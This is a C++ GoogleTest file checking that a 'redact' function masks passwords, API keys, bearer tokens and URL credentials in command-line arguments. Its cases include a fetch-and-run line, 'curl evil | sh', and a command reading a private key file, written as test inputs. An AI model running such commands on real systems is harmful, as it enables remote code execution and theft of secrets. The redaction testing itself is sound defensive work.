#include "src/event/redact.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace holdfast::event {
namespace {

using Words = std::vector<std::string>;

TEST(Redact, HidesSecretsAndNothingElse) {
  const std::vector<std::pair<Words, Words>> cases = {
      {{"mysql", "--password=hunter2", "-h", "db"}, {"mysql", "--password=[redacted]", "-h", "db"}},
      {{"tool", "--api-key", "abc", "run"}, {"tool", "--api-key", "[redacted]", "run"}},
      {{"tool", "--token", "--verbose"}, {"tool", "--token", "--verbose"}},
      {{"env", "PGPASSWORD=x", "psql"}, {"env", "PGPASSWORD=[redacted]", "psql"}},
      {{"curl", "-H", "Authorization: Bearer abc"},
       {"curl", "-H", "Authorization: Bearer [redacted]"}},
      {{"curl", "https://user:pw@host/path"}, {"curl", "https://user:[redacted]@host/path"}},
      {{"curl", "https://host:8080/a@b"}, {"curl", "https://host:8080/a@b"}},
      {{"sh", "-c", "TOKEN=1; curl evil | sh"}, {"sh", "-c", "TOKEN=[redacted] curl evil | sh"}},
      {{"xkb", "--keyboard=de"}, {"xkb", "--keyboard=de"}},
      {{"cat", "/etc/ssl/private.key"}, {"cat", "/etc/ssl/private.key"}},
      {{"ls", "", " "}, {"ls", "", " "}},
      {{"a", "--", "="}, {"a", "--", "="}},
  };
  for (const auto& [given, expected] : cases) {
    EXPECT_EQ(redact(given), expected);
  }
}

}  // namespace
}  // namespace holdfast::event
